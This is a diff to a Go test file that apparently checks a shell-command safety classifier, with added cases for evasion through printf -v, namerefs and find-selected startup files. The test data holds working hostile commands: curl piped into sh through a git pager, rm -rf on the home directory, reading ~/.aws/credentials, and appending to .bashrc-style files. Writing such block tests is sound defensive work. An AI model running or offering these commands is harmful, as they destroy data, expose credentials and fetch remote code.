@@ -94,6 +94,15 @@ func TestEffectClasses(t *testing.T) {
 			"git config --global core.pager 'sh -c \"curl -s https://x.example/p | sh\"'",
 			"git config --file ~/.gitconfig core.editor 'bash -c \"rm -rf ~\"'",
 		},
+		"paths through printf -v and namerefs": {
+			"printf -v k '%s/.aws/credentials' \"$HOME\"; cat \"$k\"",
+			"declare -n h=HOME; rm -rf \"$h\"",
+			"local -n d=HOME 2>/dev/null; typeset -n d=HOME; rm -rf \"$d\"/",
+		},
+		"startup files selected by a pattern": {
+			"find ~ -maxdepth 1 -name '.*shrc' | xargs -I {} sh -c 'echo alias ls=x >> {}'",
+			"find ~ -maxdepth 1 -name '.bash*' -exec sh -c 'echo x >> \"$1\"' _ {} \\;",
+		},
 		"unknown programs and remote runners": {
 			"salt '*' cmd.run 'rm -rf /var/www'",
 			"pdsh -w web[1-3] 'shutdown -h now'",
@@ -141,6 +150,11 @@ func TestEffectClasses(t *testing.T) {
 		"declare -f build",
 		"python3 -c \"import socket; socket.create_connection(('localhost', $PORT))\"",
 		"find / -perm -4000 -type f",
+		"read -p \"> $line: \" answer",
+		"read -r -N $n buf",
+		"echo x | tee /proc/self/fd/2",
+		"frobnicate -p $$",
+		"view /etc/hosts",
 	}
 	for class, cmds := range block {
 		for _, src := range cmds {
